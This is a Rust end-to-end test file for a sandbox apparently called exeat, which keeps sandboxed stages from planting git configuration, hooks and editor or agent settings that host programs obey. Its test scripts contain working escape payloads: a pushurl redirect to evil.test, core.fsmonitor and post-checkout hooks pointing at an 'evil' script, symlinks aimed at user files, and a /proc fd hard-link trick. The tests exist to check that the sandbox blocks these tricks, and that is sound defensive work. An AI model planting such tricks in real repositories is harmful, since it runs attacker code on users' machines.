//! L06 and L07: files that programs on the host obey at once, while the stage runs.

use std::fs;
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _, chown};
use std::path::Path;
use std::time::{Duration, Instant};

use e2e::case::{Cases, Cx};
use e2e::wait_for;
use nix::sys::signal::Signal;

pub(super) fn cases(list: &mut Cases) {
    list.matrix("escape::l06_holds_the_names_that_git_obeys_during_a_run", stage_directory);
    list.users("escape::l06_git_works_beside_and_with_the_names_that_are_held", git_works);
    list.users("escape::l06_the_host_configures_a_worktree_during_a_run", worktree_configured);
    list.users("escape::l06_no_stage_adds_to_the_configuration_of_a_worktree", written_beside_git);
    list.users("escape::l06_no_stage_makes_a_configuration_that_the_host_removed", removed_by_host);
    list.on_a_host_of_root(|list| {
        list.once("escape::l06_an_index_of_another_user_stays", anothers_index);
    });
    list.users("escape::l06_removes_stubs_after_kill_9", left_behind);
    list.users("escape::l06_a_file_that_the_host_replaced_gets_no_second_name", second_name);
    list.matrix("escape::l07_the_host_runs_nothing_of_a_repository_that_the_stage_makes", new_repository);
    list.users("escape::l06_a_crowd_of_new_files_makes_no_covered_file_doubtful", crowd);
    list.users("escape::b15_a_submodule_and_a_worktree_that_came_during_a_run_name_no_program", held_by_git);
    list.users("escape::l07_names_are_taken_from_the_host_within_20_ms", window);
    list.users("escape::l07_the_host_writes_through_no_link_in_a_repository", links);
    list.users("escape::l07_commands_that_make_a_repository_work", makers);
    list.users("escape::l07_a_stage_that_goes_on_making_names_is_ended", stubborn);
    list.users("escape::l07_watches_beside_directories_that_an_earlier_stage_closed", closed);
    list.users("escape::l07_no_process_goes_on_while_exeat_is_suspended", suspended);
    list.matrix("escape::l07_a_process_that_goes_on_while_exeat_is_suspended_ends_the_run", goes_on);
    list.users("escape::l07_after_kill_9_a_repository_is_given_back", killed);
}

/// `git sparse-checkout` writes this file, which exeat held before.
fn worktree_configured(cx: &Cx) {
    git(cx, cx.dir(), "init -q .");
    git(cx, cx.dir(), "commit -q --allow-empty -m 1");
    git(cx, cx.dir(), "config extensions.worktreeConfig true");
    git(cx, cx.dir(), "worktree add -q linked --detach");
    for (work, place) in [("", ".git"), ("linked", ".git/worktrees/linked")] {
        let mut live = cx.sh(&[], "echo ready; read -r go; exit 4").stdin_open().start();
        live.until_prints("ready");
        git(cx, &cx.dir().join(work), "config --worktree core.sparseCheckout true");
        let done = live.wait();
        done.exits(4).says(&format!("{place}/config.worktree` was replaced on the host"));
        let said =
            fs::read_to_string(cx.dir().join(place).join("config.worktree")).expect("the configuration");
        assert!(said.contains("sparseCheckout = true"), "{said}\n{done:?}");
    }
}

/// What a stage has made of a configuration would send the host's `git push` elsewhere.
const ELSEWHERE: &str = "[remote \"origin\"]\n\tpushurl = https://evil.test/x.git\n";

/// A stage writes to the file that git on the host is about to put in place.
fn written_beside_git(cx: &Cx) {
    git(cx, cx.dir(), "init -q .");
    git(cx, cx.dir(), "config extensions.worktreeConfig true");
    cx.write("append.py", &format!(
        "import os\nprint('ready', flush=True)\nwhile True:\n  try: f = os.open('.git/config.worktree.lock', os.O_WRONLY)\n  \
         except OSError: continue\n  os.write(f, b'\\n' * 900 + {ELSEWHERE:?}.encode()); os.close(f)\n"
    ));
    let mut live = cx.exeat(["run", "--", "python3", "append.py"]).start();
    live.until_prints("ready");
    for round in 0..8 {
        let words = format!("config --worktree core.sparseCheckout {}", round % 2 == 0);
        cx.outside(["sh", "-c", &format!("git {words}")]).cwd(cx.dir()).run();
        std::thread::sleep(Duration::from_millis(30));
    }
    live.signal(Signal::SIGTERM);
    let done = live.wait();
    let said = fs::read_to_string(cx.dir().join(".git/config.worktree")).unwrap_or_default();
    assert!(!said.contains("pushurl"), "{said}: {done:?}");
}

/// The host removes a configuration, and the stage makes one that would be right in a repository of its own. exeat may be killed then.
fn removed_by_host(cx: &Cx) {
    git(cx, cx.dir(), "init -q .");
    git(cx, cx.dir(), "config extensions.worktreeConfig true");
    let script =
        format!("echo ready; while :; do [ -e \"$1\" ] || printf '{ELSEWHERE}' >\"$1\"; done 2>/dev/null")
            .replace('\n', "\\n")
            .replace('\t', "\\t");
    for name in [".git/config.worktree", ".git/config"] {
        for is_killed in [false, true] {
            git(cx, cx.dir(), "config --worktree core.abbrev 9");
            let path = cx.dir().join(name);
            let before = fs::read(cx.dir().join(".git/config")).expect("a configuration");
            let mut live = cx.exeat(["run", "--", "sh", "-c", &script, "sh", name]).start();
            live.until_prints("ready");
            fs::remove_file(&path).expect("a configuration");
            if is_killed {
                wait_for(Duration::from_secs(10), "the note of the removal", || {
                    let journals = fs::read_dir(cx.home().join(".local/state/exeat/live"))
                        .into_iter()
                        .flatten()
                        .flatten();
                    let mut texts = journals.filter_map(|it| fs::read_to_string(it.path()).ok());
                    (live.ended() || texts.any(|text| text.contains("Free"))).then_some(())
                });
                if !live.ended() {
                    live.signal(Signal::SIGKILL);
                }
            }
            live.wait();
            wait_for(Duration::from_secs(20), "the end of a killed run", || {
                cx.sh(&[], "true").run().exits(0);
                let said = fs::read_to_string(&path).unwrap_or_default();
                (!said.contains("pushurl")).then_some(())
            });
            fs::write(cx.dir().join(".git/config"), &before).expect("a configuration");
            cx.bench().give(&cx.dir().join(".git/config"), cx.is_root());
        }
    }
}

/// The kernel gives no lease on another user's file, as in a tree of a group. That user has changed it just now, and no run goes on.
fn anothers_index(cx: &Cx) {
    git(cx, cx.dir(), "init -q .");
    git(cx, cx.dir(), "commit -q --allow-empty -m 1");
    fs::write(cx.dir().join("a"), "staged").expect("a file");
    git(cx, cx.dir(), "add a");
    let index = cx.dir().join(".git/index");
    chown(&index, Some(0), None).expect("chown");
    fs::set_permissions(&index, fs::Permissions::from_mode(0o666)).expect("chmod");
    let done = cx.sh(&[], "true").run();
    assert!(!done.exits(0).stderr().contains("moved") && index.exists(), "{done:?}");
    // What the stage has written to it is judged all the same.
    let done = cx.sh(&[], "echo evil >.git/index").run();
    assert!(done.exits(0).stderr().contains(".git/index` was moved") && !index.exists(), "{done:?}");
}

/// The content of each of these means the same to git as a missing file.
const NAMES: [&str; 4] = [
    ".git/commondir",
    ".git/config.worktree",
    ".git/modules/sub/commondir",
    ".git/modules/sub/config.worktree",
];

/// git on the host adopts what a stage has put into `.git/modules` for an uninitialized submodule, and takes a worktree
/// that the host makes during the run from the stage's files.
fn held_by_git(cx: &Cx) {
    repository(cx);
    git(cx, cx.dir(), "submodule --quiet deinit -f sub");
    fs::remove_dir_all(cx.dir().join(".git/modules/sub")).expect("the submodule's directory");
    let tree = cx.home().join("wt");
    let script = "printf '#!/bin/sh\ntouch \"%s/OWNED\"\n' \"$PWD\" >evil; chmod +x evil
        git clone -q --bare . .git/modules/sub; mkdir -p .git/modules/sub/hooks; cp evil .git/modules/sub/hooks/post-checkout
        git -C .git/modules/sub config core.bare false; git -C .git/modules/sub config core.fsmonitor \"$PWD/evil\"
        mkdir -p d/objects d/refs; cp .git/HEAD d; cp .git/modules/sub/config d
        echo ready; read -r go; for it in .git/worktrees/*; do echo \"$PWD/d\" >$it/commondir; cp d/config $it/config.worktree; done; exit 3";
    let mut live = cx.sh(&[], script).stdin_open().start();
    live.until_prints("ready");
    git(cx, cx.dir(), &format!("worktree add -q -b new {}", tree.display()));
    let done = live.wait();
    done.exits(3)
        .says(".git/modules/sub/config` was moved to")
        .says(".git/worktrees/wt/commondir` was moved to");
    for (dir, words) in [
        (cx.dir(), "submodule --quiet update --init"),
        (cx.dir(), "status --short"),
        (&tree, "status --short"),
    ] {
        let line = format!("git -c protocol.file.allow=always {words} || :");
        cx.outside(["sh", "-c", &line]).cwd(dir).run().exits(0);
    }
    assert!(!cx.dir().join("OWNED").exists(), "the host ran the stage's program: {done:?}");
}

/// The memory of new files is bounded, and a harmless stage does not reach the bound.
fn crowd(cx: &Cx) {
    git(cx, cx.dir(), "init -q .");
    fs::write(cx.dir().join(".mcp.json"), "{}").expect("a file that is covered");
    for remove in [":", "rm f$i"] {
        let script = format!(
            "i=0; while [ $i -lt 4200 ]; do i=$((i+1)); : >f$i; {remove}; done; echo ready; read -r go; exit 6"
        );
        let mut live = cx.sh(&[], &script).stdin_open().start();
        live.until_prints("ready");
        git(cx, cx.dir(), "config user.name x");
        live.wait().exits(6);
    }
}

/// git on the host would write into a file of the user's, or into the configuration that the stage cannot write.
fn links(cx: &Cx) {
    repository(cx);
    let outside = cx.home().join("outside");
    fs::write(&outside, "before").expect("a file of the user's");
    let config = fs::read(cx.dir().join(".git/config")).expect("the configuration");
    let made = [
        ".git/COMMIT_EDITMSG",
        ".git/logs/refs/heads/new/x",
        ".git/FETCH_HEAD",
        ".git/modules/sub/COMMIT_EDITMSG",
    ];
    let script = format!(
        "mkdir -p .git/logs/refs/heads/new; rm -f {names}; ln -s {0} .git/COMMIT_EDITMSG; ln -s {0} .git/logs/refs/heads/new/x
         ln -s config .git/FETCH_HEAD; ln -s {0} .git/modules/sub/COMMIT_EDITMSG; echo ready; read -r go; exit 5",
        outside.display(),
        names = made.join(" "),
    );
    cx.outside(["mkdir", "pkg"]).cwd(cx.dir()).run().exits(0);
    // In a subdirectory, `.git` is a separate tree.
    for cwd in [".", "pkg"] {
        let script = format!("cd \"$(git rev-parse --show-toplevel)\"; {script}");
        let mut live =
            cx.exeat(["run", "--", "sh", "-c", &script]).cwd(&cx.dir().join(cwd)).stdin_open().start();
        live.until_prints("ready");
        wait_for(Duration::from_secs(2), "the links to be taken away", || {
            made.iter().all(|name| fs::symlink_metadata(cx.dir().join(name)).is_err()).then_some(())
        });
        git(cx, cx.dir(), "commit -q --allow-empty --amend -m evil");
        git(cx, cx.dir(), &format!("branch new/x{}", cwd.len()));
        git(cx, cx.dir(), "fetch -q . HEAD");
        live.wait().exits(5).says(".git/COMMIT_EDITMSG` was moved to");
    }
    // A bare repository is one, too.
    let bare = cx.dir().join("bare");
    cx.outside(["git", "init", "-q", "--bare", "bare"]).cwd(cx.dir()).run().exits(0);
    let script = "ln -s ../x FETCH_HEAD; echo ready; read -r go";
    let mut live = cx.exeat(["run", "--", "sh", "-c", script]).cwd(&bare).stdin_open().start();
    live.until_prints("ready");
    wait_for(Duration::from_secs(2), "the link to be taken away", || {
        fs::symlink_metadata(bare.join("FETCH_HEAD")).is_err().then_some(())
    });
    live.wait();
    assert_eq!(fs::read(&outside).expect("the file"), b"before");
    assert_eq!(fs::read(cx.dir().join(".git/config")).expect("the configuration"), config);
}

fn git(cx: &Cx, dir: &Path, words: &str) {
    let options = "-c user.name=a -c user.email=a@b -c protocol.file.allow=always";
    let line = format!("git {options} {words}");
    cx.outside(["sh", "-c", &line]).cwd(dir).run().exits(0);
}

/// Makes a repository with a commit and a submodule.
fn repository(cx: &Cx) {
    let from = cx.home().join("from");
    cx.outside(["git", "init", "-q", "from"]).cwd(cx.home()).run().exits(0);
    git(cx, &from, "commit -q --allow-empty -m x");
    git(cx, cx.dir(), "init -q .");
    git(cx, cx.dir(), "commit -q --allow-empty -m x");
    git(cx, cx.dir(), &format!("submodule --quiet add {} sub", from.display()));
    git(cx, cx.dir(), "commit -q -m sub");
}

fn absent(cx: &Cx) {
    for name in NAMES {
        assert!(!cx.dir().join(name).exists(), "{name} is left");
    }
}

/// A stage makes git on the host take its directory for the repository's.
fn stage_directory(cx: &Cx) {
    repository(cx);
    let script = format!(
        "mkdir -p d/objects d/refs; printf '[core]\\n\\tfsmonitor = \"%s/evil\"\\n' \"$PWD\" >d/config; \
         printf '#!/bin/sh\\ntouch \"%s/OWNED\"\\n' \"$PWD\" >evil; chmod +x evil; \
         for it in {}; do echo \"$PWD/d\" >\"$it\" && echo written; mv d/config \"$it\" && echo moved; \
         rm -f \"$it\"; [ -e \"$it\" ] || echo removed; done 2>/dev/null; \
         echo ready; read -r go; exit 7",
        NAMES.join(" ")
    );
    let mut live = cx.sh(&[], &script).stdin_open().start();
    live.until_prints("ready");
    git(cx, cx.dir(), "status --short");
    assert!(!cx.dir().join("OWNED").exists(), "the host ran the stage's program");
    live.wait().exits(7).prints("ready\n");
    git(cx, cx.dir(), "status --short");
    assert!(!cx.dir().join("OWNED").exists(), "the host ran the stage's program");
    absent(cx);
}

/// git works inside, and on the host while the stage runs, as it does without exeat.
fn git_works(cx: &Cx) {
    repository(cx);
    let options = "-c user.name=a -c user.email=a@b";
    let script = format!(
        "set -e; git() {{ command git {options} \"$@\"; }}; echo 1 >f; git add f; git commit -qm f; \
         git status --short; echo 2 >f; git stash -q; git stash pop -q; git commit -qam g; \
         git worktree add -q wt; git -C wt status --short; git worktree remove wt; git branch -d wt -q; \
         git checkout -qb b HEAD~1; echo 3 >h; git add h; git commit -qm h; git rebase -q -; \
         git gc -q; git fsck --no-progress; git submodule status >s; git -C sub status --short; \
         echo ready; read -r go || :; git log --oneline | wc -l"
    );
    let mut live = cx.sh(&[], &script).stdin_open().start();
    live.until_prints("ready");
    for words in [
        "status --short",
        "commit -q --allow-empty -m host",
        "worktree add -q ../hostwt",
        "worktree remove ../hostwt",
        "gc -q",
        "fsck --no-progress",
        // Not `submodule update`: it replaces a configuration twice within milliseconds, which ends a run on a loaded
        // machine.
        "submodule status",
        "clone -q . ../cloned",
        "stash list",
    ] {
        git(cx, cx.dir(), words);
    }
    assert!(!live.ended());
    let done = live.wait();
    done.exits(0);
    assert!(done.stdout().ends_with("6\n"), "{done:?}");
    absent(cx);
}

/// The stage opens git's new configuration before its rename, without an event (`O_PATH`), and gives it another name
/// after the rename, which the next stage could use to write to it.
fn second_name(cx: &Cx) {
    repository(cx);
    let stage = "import os, time
print('ready', flush=True)
while not os.path.exists('.git/config.lock'): time.sleep(0.001)
fd = os.open('.git/config.lock', os.O_PATH)
print('open', flush=True)
while os.path.exists('.git/config.lock'): time.sleep(0.001)
time.sleep(0.5)
os.link(f'/proc/self/fd/{fd}', '.git/alias', dst_dir_fd=os.open('.', os.O_RDONLY), follow_symlinks=True)
time.sleep(20)";
    let mut live = cx.exeat(["run", "--", "python3", "-c", stage]).start();
    live.until_prints("ready");
    let (new, config) = (cx.dir().join(".git/config.lock"), cx.dir().join(".git/config"));
    fs::copy(&config, &new).expect("a new configuration");
    cx.bench().give(&new, cx.is_root());
    live.until_prints("open");
    fs::rename(&new, &config).expect("git's rename");
    let done = live.wait();
    done.exits(137).says(".git/config` was replaced");
    // A later stage would write to the caller's file by that name.
    let about = fs::metadata(&config).expect("a configuration");
    let alias = fs::metadata(cx.dir().join(".git/alias")).expect("a second name");
    assert!(about.nlink() == 1 && about.ino() != alias.ino(), "{about:?}");
    assert_eq!((about.uid(), about.mode()), (alias.uid(), alias.mode()));
    git(cx, cx.dir(), "status --short");
}

/// Two runs hold the same names; one of them is killed, and the last one that ends removes them.
fn left_behind(cx: &Cx) {
    repository(cx);
    let start = || {
        let mut live = cx.sh(&[], "echo ready; read -r go; exit 7").stdin_open().start();
        live.until_prints("ready");
        live
    };
    let (one, mut other) = (start(), start());
    one.wait().exits(7);
    std::thread::sleep(Duration::from_millis(700));
    assert!(!other.ended(), "the end of one run ends no other");
    assert!(cx.dir().join(".git/commondir").exists(), "the other run holds it");
    other.signal(Signal::SIGKILL);
    wait_for(Duration::from_secs(10), "the end", || other.ended().then_some(()));
    other.wait();
    assert_eq!(fs::read_to_string(cx.dir().join(".git/commondir")).expect("a stub"), ".\n");
    git(cx, cx.dir(), "status --short");
    cx.sh(&[], "true").run().exits(0);
    absent(cx);
}

/// Makes a directory for a stage.
fn fresh(cx: &Cx, name: &str) -> std::path::PathBuf {
    let dir = cx.dir().join(name);
    fs::create_dir(&dir).expect("a directory");
    cx.bench().give(&dir, cx.is_root());
    dir
}

/// In a directory that is not a repository, and in its `.git`, in every way to make a directory.
fn new_repository(cx: &Cx) {
    let evil = "printf '#!/bin/sh\ntouch \"%s/OWNED\"\n' \"$PWD\" >evil; chmod +x evil";
    let set = "config core.fsmonitor \"$PWD/evil\"";
    for (number, make) in [
        format!("git init -q .; git {set}"),
        format!("git init -q x; git -C x {set}; mv x/.git .git"),
        format!("git init -q x; git -C x {set}; ln -s x/.git .git"),
        format!("git init -q x; git -C x {set}; echo gitdir: x/.git >.git"),
        format!("git init -q --bare x; git -C x {set}; mv x/* ."),
        format!("git init -q .; git {set}; sleep 0.1; cd .git/..; mv .git y; git init -q .; git {set}"),
    ]
    .iter()
    .enumerate()
    {
        let dir = fresh(cx, &number.to_string());
        let script = format!("{evil}; {{ {make}; }} 2>/dev/null; echo ready; read -r go; exit 7");
        let mut live = cx.sh(&[], &script).cwd(&dir).stdin_open().start();
        live.until_prints("ready");
        std::thread::sleep(Duration::from_millis(100));
        cx.outside(["git", "status", "--short"]).cwd(&dir).run();
        assert!(!dir.join("OWNED").exists(), "the host ran the stage's program: {make}");
        live.wait().exits(7);
        cx.outside(["git", "status", "--short"]).cwd(&dir).run();
        assert!(!dir.join("OWNED").exists(), "the host ran the stage's program afterwards: {make}");
    }
}

/// Measures how long the host sees the stage's files: the median is less than the promised 20 ms. A busy machine has
/// two more tries.
fn window(cx: &Cx) {
    /// The promise of docs/files.md.
    const WINDOW: Duration = Duration::from_millis(20);
    let rounds: Vec<_> = (0..3).map(|round| sights(cx, &fresh(cx, &round.to_string()))).collect();
    let is_kept = |seen: &Vec<Duration>| seen[seen.len() / 2] < WINDOW;
    assert!(rounds.iter().any(is_kept), "{rounds:?}");
    assert!(rounds.iter().flatten().all(|seen| *seen < 100 * WINDOW), "{rounds:?}");
}

fn sights(cx: &Cx, dir: &Path) -> Vec<Duration> {
    let names = [
        ".mcp.json",
        ".vscode/tasks.json",
        ".husky/pre-commit",
        ".kiro/hooks/x",
        ".git/HEAD",
        ".claude/settings.json",
    ];
    let list = names.join(" ");
    // Directories on the way appear together with their contents.
    let script = format!(
        "for it in {list}; do sleep 0.1; d=${{it%/*}}; [ $d = $it ] || mkdir -p $d; echo x >$it; done; sleep 0.2; \
         for it in {list}; do [ -f $it ] && echo $it; done; exit 0"
    );
    let mut live = cx.sh(&[], &script).cwd(dir).start();
    // First and last sight of each, which may never be seen at all.
    let mut seen = names.map(|_| None);
    while !live.ended() {
        for (name, seen) in names.iter().zip(&mut seen) {
            if fs::symlink_metadata(dir.join(name)).is_ok() {
                let now = Instant::now();
                *seen = Some(seen.map_or((now, now), |(first, _)| (first, now)));
            }
        }
        std::thread::sleep(Duration::from_micros(200));
    }
    let done = live.wait();
    done.exits(0);
    // The directories still belong to the stage.
    for name in names.iter().filter(|name| name.contains('/')) {
        assert!(done.stdout().contains(name), "{done:?}");
    }
    let log = done.record();
    let notes: Vec<_> = log.events("note").into_iter().filter(|note| note["what"] == "quarantined").collect();
    assert_eq!(notes.len(), names.len() - 1, "{notes:?}");
    assert!(dir.join(".git/HEAD").exists(), "a repository is given back");
    assert!(!dir.join(".vscode").exists() && !dir.join(".mcp.json").exists());
    // That one comes back at the end.
    let seen = names.iter().zip(seen).filter(|(name, _)| !name.starts_with(".git"));
    let mut seen: Vec<_> =
        seen.map(|(_, seen)| seen.map_or(Duration::ZERO, |(first, last)| last - first)).collect();
    seen.sort();
    seen
}

/// Programs that make a repository in an empty directory work, and the stage continues in it.
fn makers(cx: &Cx) {
    let options = "-c user.name=a -c user.email=a@b";
    let origin = cx.home().join("origin");
    cx.outside(["git", "init", "-q", "origin"]).cwd(cx.home()).run().exits(0);
    cx.outside(["sh", "-c", "mkdir .vscode src; echo '{}' >.vscode/x; echo x >src/x; git add ."])
        .cwd(&origin)
        .run();
    git(cx, &origin, "commit -q -m one");
    let after = format!(
        "echo 1 >f; git add f; git {options} commit -qm f; git checkout -qb b; echo 2 >f; git {options} commit -qam g; \
         git gc -q; git fsck --no-progress; git worktree add -q ../wt 2>/dev/null || :; git log --oneline | wc -l"
    );
    let shown = origin.to_str().expect("ASCII");
    for (name, make, commits) in [
        ("init", "git init -q .".to_owned(), "2\n"),
        ("clone", format!("git clone -q {shown} . && [ -f .vscode/x ] && [ -f src/x ]"), "3\n"),
    ] {
        for round in 0..3 {
            let dir = fresh(cx, &format!("{name}{round}"));
            let script = format!("set -e; {make}; {after}");
            let done = cx.exeat(["run", "--ro", shown, "--", "sh", "-c", &script]).cwd(&dir).run();
            assert!(!done.exits(0).stderr().contains(".git/config` was moved"), "{done:?}");
            assert!(done.stdout().ends_with(commits), "{done:?}");
            assert!(!dir.join(".vscode").exists());
            let log = cx.outside(["git", "log", "--oneline", "b"]).cwd(&dir).run();
            assert_eq!(
                format!("{}\n", log.stdout().lines().count()),
                commits,
                "the host has it now: {log:?}"
            );
            let left: Vec<_> =
                fs::read_dir(&dir).expect("a list").flatten().map(|it| it.file_name()).collect();
            assert!(
                !left.iter().any(|name| name.as_encoded_bytes().starts_with(b".exeat-quarantine.")),
                "{left:?}"
            );
        }
    }
}

/// Names below a directory that was unreadable at the start are moved as well.
fn closed(cx: &Cx) {
    let leave = "mkdir -p sub/.git/objects sub/.git/refs .kiro; echo ref: refs/heads/m >sub/.git/HEAD; echo '[core]' >sub/.git/config; \
                 chmod 0 sub/.git/config .kiro";
    cx.sh(&[], leave).run().exits(0);
    let script = "chmod 700 .kiro; mkdir .kiro/hooks; echo x >.kiro/hooks/x; echo x >.mcp.json; echo ready; read -r go; exit 7";
    let mut live = cx.sh(&[], script).stdin_open().start();
    live.until_prints("ready");
    let is_there = |name: &str| cx.dir().join(name).exists();
    wait_for(Duration::from_secs(2), "the names to be taken away", || {
        (!is_there(".mcp.json") && !is_there(".kiro/hooks/x")).then_some(())
    });
    let done = live.wait();
    done.exits(7);
    assert!(!done.stderr().contains("could not be watched"), "{done:?}");
}

/// A suspended run also stops a process in its own session, which the terminal's signals do not reach.
fn suspended(cx: &Cx) {
    let script = "setsid sh -c 'while :; do echo x >>ticks; echo x >.mcp.json; sleep 0.2; done' 2>/dev/null & \
                  while [ ! -e ticks ]; do sleep 0.05; done; echo ready; while :; do sleep 0.1; done";
    let mut live = cx.sh(&[], script).own_group().start();
    live.until_prints("ready").signal(Signal::SIGTSTP).until_stopped(true);
    let ticks = || fs::metadata(cx.dir().join("ticks")).expect("a file").len();
    let before = ticks();
    std::thread::sleep(Duration::from_secs(1));
    assert_eq!(ticks(), before, "a process works on");
    assert!(!cx.dir().join(".mcp.json").exists());
    live.signal(Signal::SIGCONT).until_stopped(false);
    wait_for(Duration::from_secs(5), "it to go on", || (ticks() > before).then_some(()));
    live.signal(Signal::SIGTERM);
    live.wait().exits(143);
}

/// A timer continues the stage. It may stop again before its state can be read.
fn goes_on(cx: &Cx) {
    for then in ["stay", "stop"] {
        let script = format!("sleep 100 & exec {} go-on 4000 {then}", cx.probe());
        let mut live = cx.sh(&[], &script).own_group().start();
        live.until_prints("ready").signal(Signal::SIGTSTP).until_stopped(true);
        // Nobody continues exeat.
        let done = live.wait();
        done.exits(137)
            .says("a process of the stage went on while the run was suspended")
            .says(".vscode` was moved");
        assert!(!cx.dir().join(".vscode/tasks.json").exists(), "{done:?}");
    }
}

fn stubborn(cx: &Cx) {
    let script = "while :; do echo x >.mcp.json; sleep 0.01; done 2>/dev/null";
    let result = cx.home().join("result.json");
    let words = ["run", "--timeout", "100s", "--result", result.to_str().expect("ASCII")];
    let done = cx.exeat([&words[..], &["--", "sh", "-c", script]].concat()).run();
    let why = "the stage has made the protected name `.mcp.json` 20 times";
    done.exits(137).says(why);
    let said = fs::read_to_string(&result).expect("a result");
    assert!(said.contains(r#""cause":"uncovered""#) && said.contains(r#""error":""#), "{said}");
    assert!(said.contains(why), "the result says why, too: {said}");
    assert!(!cx.dir().join(".mcp.json").exists(), "{done:?}");
}

fn killed(cx: &Cx) {
    let script = "git init -q .; git config a.b c; mkdir .vscode; echo ready; sleep 100";
    let mut live = cx.sh(&[], script).start();
    live.until_prints("ready");
    let empty = |name: &str| fs::read_dir(cx.dir().join(name)).is_ok_and(|mut it| it.next().is_none());
    wait_for(Duration::from_secs(2), "both to be empty for the host", || {
        (empty(".git") && empty(".vscode")).then_some(())
    });
    live.signal(Signal::SIGKILL);
    live.wait();
    assert!(empty(".git") && empty(".vscode"), "the host sees nothing of it");
    let mut lines = String::new();
    wait_for(Duration::from_secs(5), "the end of the sandbox", || {
        let done = cx.sh(&[], "git rev-parse --git-dir; ls -d .vscode").run();
        lines += &done.stderr();
        let is_settled = done.stderr().contains("was killed before its end");
        if is_settled {
            done.says(".git/config` was moved").prints(".git\n");
        }
        is_settled.then_some(())
    });
    // A run that begins before the end of the sandbox moves it as its own.
    assert!(lines.contains(".vscode` was moved"), "{lines}");
    assert!(cx.dir().join(".git/HEAD").exists() && !cx.dir().join(".git/config").exists());
}
